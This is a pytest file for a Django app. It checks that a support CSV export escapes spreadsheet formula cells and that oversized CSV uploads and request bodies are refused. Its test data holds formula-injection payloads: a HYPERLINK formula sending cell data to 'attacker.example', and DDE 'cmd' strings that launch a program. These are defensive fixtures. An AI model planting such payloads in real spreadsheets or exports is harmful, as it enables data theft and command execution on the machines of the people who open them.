"""CSV in and out: the support export neutralises cells a spreadsheet would run as formulas; uploads over the size
or row limit, and request bodies over Django's limit, are refused before anything is queued."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from wizard.actions import create_tenant
from wizard.models import StepState, StepStatus
from wizard.rooms_csv import MAX_ROWS, MAX_UPLOAD_BYTES

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@")
HOSTILE_NAMES = (
    '=HYPERLINK("https://attacker.example/?x="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def test_support_export_neutralises_formula_cells(users):
    for number, name in enumerate(HOSTILE_NAMES):
        tenant = create_tenant(creator=users["bob"], display_name=name, slug=f"hostile-{number}")
        tenant.microsoft_tenant_id = f"={number}+1"
        tenant.save()
    client = Client()
    client.force_login(users["support"])
    response = client.get("/support/tenants.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == 1 + len(HOSTILE_NAMES)
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    for name in HOSTILE_NAMES:
        assert f"'{name}" in cells  # kept readable, just not executable


@pytest.fixture
def admin_client(users, tenants) -> Client:
    client = Client()
    client.force_login(users["alice"])
    return client


def _upload(client: Client, content: bytes):
    # The rooms step builds on these; before they are done it refuses any upload unread.
    StepState.objects.filter(tenant__slug="contoso", step_id__in=("connect", "service_account", "room_list")).update(
        status=StepStatus.SUCCEEDED
    )
    upload = SimpleUploadedFile("rooms.csv", content, content_type="text/csv")
    return client.post("/t/contoso/steps/rooms/run", {"source": "csv", "csv_file": upload})


def _rooms_state(tenants) -> StepState:
    return StepState.objects.get(tenant=tenants["contoso"], step_id="rooms")


def test_an_upload_over_the_size_limit_is_refused_and_nothing_queued(admin_client, tenants):
    line = b"room-00001@contoso.com\r\n"
    content = b"ResourceAccounts\r\n" + line * (MAX_UPLOAD_BYTES // len(line) + 1)
    assert len(content) > MAX_UPLOAD_BYTES
    response = _upload(admin_client, content)
    assert response.status_code == 400
    assert "larger than" in response.content.decode() or "limit" in response.content.decode()
    assert _rooms_state(tenants).status == StepStatus.NOT_STARTED
    assert _rooms_state(tenants).inputs == {}


def test_an_upload_over_the_row_limit_is_refused_and_nothing_queued(admin_client, tenants):
    rows = "".join(f"room-{n:06d}@contoso.com\r\n" for n in range(MAX_ROWS + 1))
    content = ("ResourceAccounts\r\n" + rows).encode()
    assert len(content) < MAX_UPLOAD_BYTES  # refused for its rows, not its size
    response = _upload(admin_client, content)
    assert response.status_code == 400
    assert f"{MAX_ROWS:,}" in response.content.decode()
    assert _rooms_state(tenants).status == StepStatus.NOT_STARTED


def test_a_request_body_over_djangos_limit_is_refused(admin_client, tenants, settings):
    StepState.objects.filter(tenant=tenants["contoso"], step_id__in=("connect", "service_account")).update(
        status=StepStatus.SUCCEEDED
    )
    response = admin_client.post(
        "/t/contoso/steps/room_list/run", {"name": "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1)}
    )
    assert response.status_code == 400
    assert StepState.objects.get(tenant=tenants["contoso"], step_id="room_list").status == StepStatus.NOT_STARTED
